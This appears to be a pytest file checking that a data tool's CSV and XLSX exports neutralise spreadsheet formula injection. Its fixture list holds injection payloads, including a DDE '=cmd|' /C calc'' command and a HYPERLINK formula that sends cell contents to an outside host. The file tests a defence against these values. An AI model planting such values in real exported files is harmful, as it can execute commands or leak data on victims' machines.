"""Cells of CSV and XLSX exports that a spreadsheet would take for a formula are guarded; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal

import pyarrow as pa
import pytest
from openpyxl import load_workbook

from brokerlake.reader import workbook
from brokerlake.reader.formats import OutputError, as_csv, save, to_text

FORMULAS = [
    '=HYPERLINK("http://x/?"&A1)', "=cmd|' /C calc'!A0", "=1+1", "+1+1", "-1+1", "@SUM(A1)",
    "\t=1", "\r=1", "\n=1", "＝1+1", "－2", "＋3", "＠x",
]  # fmt: skip
HARMLESS = ["a=1", "王伟", "x\r=1\n=2", "'=1", ""]
TABLE = pa.table(
    {
        "=name": pa.array([*FORMULAS, *HARMLESS]),
        "amount": pa.array([Decimal("-1.50")] * 18, pa.decimal128(18, 2)),
        "count": pa.array([-7] * 18),
        "ratio": pa.array([-0.25] * 17 + [float("-inf")]),
        "exact": pa.array([Decimal("-12345678901234567890.12")] * 18, pa.decimal128(38, 2)),
        "day": pa.array([date(2024, 3, 4)] * 18),
        "at": pa.array([datetime(2024, 3, 4, 1, 2, 3, tzinfo=UTC)] * 18, pa.timestamp("us", "UTC")),
        "list": pa.array([["=1"]] * 18),
        "is_open": pa.array([True] * 18),
    }
)


def is_formula(text: str) -> bool:
    return bool(text) and text[0] in "=+-@\t\r\n＝＋－＠"


def test_as_csv__texts_guarded__numbers_stay_numbers():
    rows = list(csv.DictReader(io.StringIO(as_csv(TABLE), newline="")))
    names = [row["'=name"] for row in rows]
    assert not [name for name in names if is_formula(name)]
    assert [name.removeprefix("'") for name in names[: len(FORMULAS)]] == FORMULAS
    assert names[len(FORMULAS) :] == HARMLESS
    assert {(row["amount"], row["count"]) for row in rows} == {("-1.50", "-7")}
    assert [rows[0]["ratio"], rows[-1]["ratio"], rows[0]["exact"]] == ["-0.25", "", "-12345678901234567890.12"]


def test_save__xlsx__no_cell_is_a_formula_and_numbers_stay_numbers(tmp_path):
    path = tmp_path / "x.xlsx"
    save(TABLE, "xlsx", path)
    sheet = load_workbook(path).worksheets[0]
    rows = list(sheet.iter_rows())
    assert len(rows) == 19 and not [cell for row in rows for cell in row if cell.data_type == "f"]
    texts = [cell.value for row in rows for cell in row if cell.data_type == "s"]
    assert not [text for text in texts if is_formula(text)]
    name, amount, count, ratio, exact, day, at, listed, is_open = (cell.value for cell in rows[1])
    assert (name, amount, count, ratio, is_open) == ("'" + FORMULAS[0], -1.5, -7, -0.25, True)
    assert (exact, day, at) == ("'-12345678901234567890.12", datetime(2024, 3, 4), datetime(2024, 3, 4, 1, 2, 3))
    assert listed == '["=1"]' and rows[-1][3].value is None
    with zipfile.ZipFile(path) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def test_save__xlsx_with_unprintable_or_endless_text__written(tmp_path):
    save(pa.table({"x": ["a\x00b\x0bc", "y" * 40_000]}), "xlsx", tmp_path / "x.xlsx")
    first, second = (row[0] for row in load_workbook(tmp_path / "x.xlsx").worksheets[0].iter_rows(2, values_only=True))
    assert first == "a b c" and len(second) == workbook.LONGEST_TEXT - 1


def test_save__xlsx_without_room__one_line_and_no_file(tmp_path, monkeypatch):
    monkeypatch.setattr(workbook, "MOST_ROWS", 17)
    with pytest.raises(OutputError, match="has room for 17 rows"):
        save(TABLE, "xlsx", tmp_path / "x.xlsx")
    assert list(tmp_path.iterdir()) == []


def test_to_text__xlsx__asks_for_a_file():
    with pytest.raises(OutputError, match="--output"):
        to_text(TABLE, "xlsx")
